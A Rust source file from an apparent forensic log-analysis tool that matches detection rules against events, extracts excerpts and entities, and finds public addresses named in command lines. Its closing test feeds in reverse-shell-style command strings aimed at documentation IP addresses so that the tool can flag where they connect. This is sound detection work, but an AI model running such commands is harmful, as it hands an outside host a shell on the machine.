//! One piece while it is read: every event is matched and appended to columns in the same pass, everything is counted.

use std::collections::BTreeSet;
use std::sync::Arc;

use konseki_formats::text::longest_valid;
use konseki_model::evidence::Zone;
use konseki_model::{Because, Core, Entity, EntityKind, Event, Kind, Problem, Records, Sink};
use konseki_store::{Keep, Origin};

use crate::detect::{Detector, Match, Scratch};
use crate::journal::{Correlated, Hit};
use crate::tally::{ENTITIES, PLACES, Tally};

/// Longest excerpt, in bytes.
pub const EXCERPT: usize = 2048;
const DAY: i64 = 86_400_000_000;
/// Bytes of a value among which the rarest is looked for.
const PROBED: usize = 64;

/// Kinds whose events keep no excerpt: many, and their fields stand in the line as they are.
fn keeps_excerpt(kind: Kind) -> bool {
    !matches!(kind, Kind::Other | Kind::Flow | Kind::Dns | Kind::Heartbeat | Kind::ProcessSeen | Kind::FileSeen)
}

/// Whose events these are.
pub struct Whose<'a> {
    /// Evidence id.
    pub evidence: &'a str,
    pub source: &'static konseki_sources::Entry,
    /// Its place in the list of sources.
    pub index: usize,
    /// Shared, not copied, by every event that names none.
    pub host: Arc<str>,
}

/// The sink of one piece, or of one part of it.
pub struct Sheet<'a> {
    pub tally: Tally,
    whose: &'a Whose<'a>,
    keep: &'a mut dyn Keep,
    detector: &'a Detector,
    scratch: &'a mut Scratch,
}

impl<'a> Sheet<'a> {
    pub fn new(whose: &'a Whose<'a>, keep: &'a mut dyn Keep, detector: &'a Detector, scratch: &'a mut Scratch) -> Self {
        Self { tally: Tally::default(), whose, keep, detector, scratch }
    }
}

/// An excerpt of an event that stands at its place, and its encoding there when it is not UTF-8.
/// Text: the line, cut. Binary records: the longest value that stands in the record as UTF-16.
pub fn excerpt<'e>(event: &Event<'e>, values: &[(&str, &str)]) -> (&'e str, Option<&'static str>) {
    if event.raw.is_empty() {
        return ("", None);
    }
    if matches!(event.at, konseki_model::At::Record(_)) {
        let wanted = values.iter().filter_map(|(name, _)| event.field(name));
        let all = event.fields.iter().map(|field| field.value);
        // The longest first, so that the first one found is the one.
        let mut longest: Vec<&str> = wanted.chain(all.filter(|_| values.is_empty())).filter(|v| (1..=400).contains(&v.len())).collect();
        longest.sort_by_key(|value| std::cmp::Reverse(value.len()));
        let mut needle = Vec::new();
        let best = longest.into_iter().find(|value| {
            needle.clear();
            needle.extend(value.encode_utf16().flat_map(u16::to_le_bytes));
            stands(event.raw, &needle)
        });
        let best = best.unwrap_or_default();
        if best.is_empty() && !values.is_empty() {
            return excerpt(event, &[]);
        }
        return (best, (!best.is_empty()).then_some("utf-16le"));
    }
    let text = longest_valid(event.raw);
    let mut end = text.len().min(EXCERPT);
    while !text.is_char_boundary(end) {
        end -= 1;
    }
    (text.get(..end).unwrap_or_default(), None)
}

/// Whether the needle stands in the bytes. A record is short and asked once: preparing a search would cost more than searching.
fn stands(bytes: &[u8], needle: &[u8]) -> bool {
    let rank = |byte: u8| match byte {
        0 | b'a'..=b'z' | b' ' | b'\\' | b'.' => 2,
        b'0'..=b'9' | b'A'..=b'Z' => 1,
        _ => 0,
    };
    // The last of the rarest: values begin alike more often than they end alike. None is rarer than rank 0.
    let mut rarest: Option<(usize, u8)> = None;
    for (at, byte) in needle.iter().enumerate().rev().filter(|(_, byte)| **byte != 0).take(PROBED) {
        if rarest.is_none_or(|(_, best)| rank(*byte) < rank(best)) {
            rarest = Some((at, *byte));
        }
        if rank(*byte) == 0 {
            break;
        }
    }
    let Some((at, byte)) = rarest else {
        return memchr::memmem::find(bytes, needle).is_some();
    };
    memchr::memchr_iter(byte, bytes).any(|found| {
        let rest = found.checked_sub(at).and_then(|start| bytes.get(start..));
        rest.is_some_and(|rest| rest.starts_with(needle))
    })
}

/// What a list of files or processes names, where it stands in the line as it is: a finding of a comparison rests on it,
/// and nothing else of such an event is written the same way in all formats.
fn name_in_line<'e>(event: &Event<'e>) -> &'e str {
    if !matches!((event.kind, event.at), (Kind::FileSeen | Kind::ProcessSeen, konseki_model::At::Line(_))) {
        return "";
    }
    let Core { object, command, .. } = event.core;
    // JSON writes a path's backslashes twice; its last part is written once.
    let last = object.rsplit(['/', '\\']).next().unwrap_or_default();
    let stands = |text: &&str| (4..=400).contains(&text.len()) && memchr::memmem::find(event.raw, text.as_bytes()).is_some();
    [object, command, last].into_iter().find(stands).unwrap_or_default()
}

fn entities(event: &Event<'_>, host: &str) -> BTreeSet<Entity> {
    let core = &event.core;
    let mut all = BTreeSet::new();
    let mut add = |kind, value: &str, role: &str| {
        if !value.is_empty() {
            all.insert(Entity::new(kind, value, role));
        }
    };
    add(EntityKind::Host, host, "where");
    add(EntityKind::User, core.user, "actor");
    add(EntityKind::Address, core.src, "from");
    add(EntityKind::Address, core.dst, "to");
    add(EntityKind::Session, core.session, "via");
    let object = match event.kind.as_str() {
        "vm.list-export" => None,
        kind if kind.starts_with("vm") => Some(EntityKind::Vm),
        kind if kind.starts_with("mail.") => Some(EntityKind::Message),
        kind if kind.starts_with("service.") => Some(EntityKind::Service),
        kind if kind.starts_with("file.") || kind.starts_with("integrity.") || kind == "autostart" => Some(EntityKind::File),
        kind if kind.starts_with("process.") => Some(EntityKind::Process),
        "web.request" | "http" => Some(EntityKind::Url),
        "dns" | "tls" => Some(EntityKind::Domain),
        kind if kind.starts_with("account.") || kind.starts_with("group.") => Some(EntityKind::User),
        _ => None,
    };
    if let Some(kind) = object {
        add(kind, core.object, "object");
    }
    for address in outside(core.command) {
        add(EntityKind::Address, address, "to");
    }
    all
}

/// Addresses on the Internet that a command names: it goes there.
fn outside(command: &str) -> impl Iterator<Item = &str> {
    let words = command.split(|c: char| !c.is_ascii_digit() && c != '.').map(|word| word.trim_matches('.'));
    // A word that begins with nothing is a version.
    words.filter(|word| word.len() >= 7 && word.contains('.') && !word.starts_with("0.") && konseki_chain::is_public(word))
}

impl Sheet<'_> {
    fn take_match(&mut self, event: &Event<'_>, host: &str, found: &Match) {
        let core = &event.core;
        let actor = if core.user.is_empty() { core.src } else { core.user };
        let micros = event.time.map(|time| time.micros);
        let offset = event.time.and_then(|time| time.offset);
        let day = micros.map_or(i64::MIN, |micros| micros.div_euclid(DAY));
        let key = (found.engine.to_owned(), found.rule.clone(), host.to_owned(), actor.to_owned(), day, offset);
        let hit = self.tally.hits.entry(key).or_insert_with(|| Hit {
            engine: found.engine.to_owned(),
            rule: found.rule.clone(),
            host: host.to_owned(),
            actor: actor.to_owned(),
            count: 0,
            first: micros,
            last: micros,
            fidelity: event.time.map_or("", |time| time.fidelity.as_str()).to_owned(),
            basis: event.time.map_or("", |time| time.basis.as_str()).to_owned(),
            offset,
            because: Vec::new(),
            entities: BTreeSet::new(),
            args: found.args.clone(),
        });
        hit.count += 1;
        hit.first = hit.first.into_iter().chain(micros).min();
        hit.last = hit.last.into_iter().chain(micros).max();
        if hit.because.len() < PLACES {
            let values: Vec<(&str, &str)> = found.values.iter().map(|(n, v)| (n.as_str(), v.as_str())).collect();
            let (text, encoding) = excerpt(event, &values);
            hit.because.push(Because {
                evidence: self.whose.evidence.to_owned(),
                path: String::new(),
                at: event.at,
                excerpt: text.to_owned(),
                encoding: encoding.map(str::to_owned),
            });
            for entity in entities(event, host) {
                if hit.entities.len() < ENTITIES {
                    hit.entities.insert(entity);
                }
            }
        }
    }
}

impl Sink for Sheet<'_> {
    fn event(&mut self, event: &Event<'_>) {
        if self.tally.failed.is_some() {
            return;
        }
        let fallback = Arc::clone(self.tally.said_host.as_ref().unwrap_or(&self.whose.host));
        let host = if event.core.host.is_empty() { &*fallback } else { event.core.host };
        self.tally.time(event, host);
        let (matches, correlated) = self.detector.event(self.whose.index, event, self.scratch);
        for found in &matches {
            self.take_match(event, host, found);
        }
        let whole = keeps_excerpt(event.kind) || !correlated.is_empty();
        let (text, encoding) = if whole { excerpt(event, &[]) } else { (name_in_line(event), None) };
        if let (false, Some(time)) = (correlated.is_empty(), event.time) {
            let fields = self.detector.group_fields(event);
            self.tally.outcome.correlated.push(Correlated {
                rules: correlated,
                micros: time.micros,
                offset: time.offset,
                at: event.at,
                host: host.to_owned(),
                excerpt: text.to_owned(),
                encoding: encoding.map(str::to_owned),
                fields,
            });
        }
        let origin = Origin { evidence: self.whose.evidence, source: self.whose.source.id, host, raw: text };
        if let Err(error) = self.keep.push(&origin, event) {
            self.tally.failed = Some(error);
        }
    }

    fn problem(&mut self, problem: Problem) {
        self.tally.problem(problem);
    }

    fn records(&mut self, records: Records) {
        self.tally.outcome.records.add(&records);
    }

    fn host(&mut self, host: &str) {
        if self.tally.said_host.is_none() && !host.is_empty() {
            self.tally.said_host = Some(host.into());
        }
    }

    fn zone(&mut self, zone: &str, basis: &str) {
        self.tally.outcome.zone = Zone { name: zone.to_owned(), basis: basis.to_owned() };
    }

    fn nested(&mut self, name: &str, bytes: Vec<u8>) {
        self.tally.nested.push((name.to_owned(), bytes));
    }
}

#[cfg(test)]
mod tests {
    #[test]
    fn a_value_is_found_where_it_stands() {
        let wide = |text: &str| text.encode_utf16().flat_map(u16::to_le_bytes).collect::<Vec<u8>>();
        let record = wide("xC:\\Temp\\a.exe\u{65e5}\u{672c}\u{0}aab");
        for text in ["C:\\Temp\\a.exe", "x", "b", "\u{65e5}\u{672c}", "\u{0}", "aab", "ab"] {
            assert!(super::stands(&record, &wide(text)), "{text}");
        }
        for text in ["c:\\Temp", "aaab", "\u{672c}\u{65e5}", "abc"] {
            assert!(!super::stands(&record, &wide(text)), "{text}");
        }
    }

    #[test]
    fn a_command_names_where_it_goes() {
        let named = |text| super::outside(text).collect::<Vec<_>>();
        assert_eq!(named("sh -i | openssl s_client -connect 203.0.113.50:8443 >/tmp/p"), ["203.0.113.50"]);
        assert_eq!(named("connect((\"198.51.100.9\",4444)) from 10.0.0.1"), ["198.51.100.9"]);
        assert_eq!(named("setup.exe /v 6.1.7601.17514 127.0.0.1"), Vec::<&str>::new());
    }
}
